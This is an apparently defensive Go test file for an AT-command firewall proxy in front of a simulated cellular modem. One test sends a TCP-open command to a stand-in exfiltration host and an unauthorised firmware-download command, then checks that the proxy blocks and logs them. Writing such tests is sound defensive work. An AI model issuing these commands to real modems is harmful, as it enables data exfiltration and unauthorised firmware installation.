package main

import (
	"bytes"
	"context"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"go.bug.st/serial"

	"github.com/modemguard/modemguard/simulator"
)

const proxyPolicy = `version: 1
module_stack:
  default: deny
  allow:
    - host: broker.example.com
      ports: [8883]
  fota: deny
`

// TestProxyOverPTYs runs the AT firewall between two real ptys: the
// simulated module behind one, a client opening the other through
// go.bug.st/serial. Refused commands must never reach the module.
func TestProxyOverPTYs(t *testing.T) {
	modemLink, sim := servePTY(t, "quectel-ec25", simulator.Options{Seed: 9})
	dir := t.TempDir()
	pol := filepath.Join(dir, "policy.yaml")
	if err := os.WriteFile(pol, []byte(proxyPolicy), 0o644); err != nil {
		t.Fatal(err)
	}
	link := filepath.Join(dir, "ttyAT0")
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan int, 1)
	var out, errb bytes.Buffer
	go func() {
		done <- run(ctx, []string{"proxy", "--port", modemLink, "--link", link, "--policy", pol}, &out, &errb)
	}()
	defer func() {
		cancel()
		if code := <-done; code != 0 {
			t.Errorf("proxy exit %d: %s", code, errb.String())
		}
		if _, err := os.Lstat(link); err == nil {
			t.Error("the proxy left its link behind")
		}
	}()

	deadline := time.Now().Add(10 * time.Second)
	for {
		if _, err := os.Stat(link); err == nil {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("no link after 10s: %s", errb.String())
		}
		time.Sleep(10 * time.Millisecond) // polling for another goroutine's file, with a deadline
	}
	port, err := serial.Open(link, &serial.Mode{BaudRate: 115200})
	if err != nil {
		t.Fatal(err)
	}
	defer port.Close()
	if err := port.SetReadTimeout(100 * time.Millisecond); err != nil {
		t.Fatal(err)
	}
	ask := func(cmd, until string) string {
		t.Helper()
		if _, err := port.Write([]byte(cmd + "\r")); err != nil {
			t.Fatal(err)
		}
		var got []byte
		buf := make([]byte, 256)
		end := time.Now().Add(10 * time.Second)
		for !bytes.Contains(got, []byte(until)) {
			if time.Now().After(end) {
				t.Fatalf("%s: waited 10s for %q, got %q", cmd, until, got)
			}
			n, err := port.Read(buf)
			if err != nil {
				t.Fatal(err)
			}
			got = append(got, buf[:n]...)
		}
		return string(got)
	}
	if a := ask("AT+CGMI", "OK\r\n"); !strings.Contains(a, "Quectel") {
		t.Errorf("AT+CGMI through the proxy: %q", a)
	}
	ask("AT+CMEE=1", "OK\r\n")
	if a := ask(`AT+QIOPEN=1,0,"TCP","exfil.example.net",443,0,1`, "\r\n+CME ERROR: 3\r\n"); strings.Contains(a, "OK") {
		t.Errorf("refused line answered %q", a)
	}
	if a := ask(`AT+QFOTADL="http://fota.example.cn/x.bin"`, "+CME ERROR: 3\r\n"); strings.Contains(a, "OK") {
		t.Errorf("FOTA answered %q", a)
	}
	ask(`AT+QIOPEN=1,0,"TCP","broker.example.com",8883,0,1`, "OK\r\n")
	got := sim.Received()
	for _, l := range got {
		if strings.Contains(l, "exfil.example.net") || strings.Contains(l, "QFOTADL") {
			t.Fatalf("a refused command reached the module: %q", l)
		}
	}
	if !slices.ContainsFunc(got, func(l string) bool { return strings.Contains(l, "broker.example.com") }) {
		t.Errorf("the allowed command did not reach the module: %q", got)
	}
	if !strings.Contains(errb.String(), "exfil.example.net") {
		t.Errorf("the refusal was not logged:\n%s", errb.String())
	}
}

func TestProxyRefusesBadPolicy(t *testing.T) {
	dir := t.TempDir()
	pol := filepath.Join(dir, "policy.yaml")
	if err := os.WriteFile(pol, []byte("version: 1\nmodule_stack:\n  defualt: deny\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	code, _, stderr := runCLI(t, "proxy", "--port", "/dev/null", "--link", filepath.Join(dir, "l"), "--policy", pol)
	if code != 1 || !strings.Contains(stderr, "policy.yaml:3") {
		t.Errorf("exit %d, stderr %q: want exit 1 naming policy.yaml:3", code, stderr)
	}
}
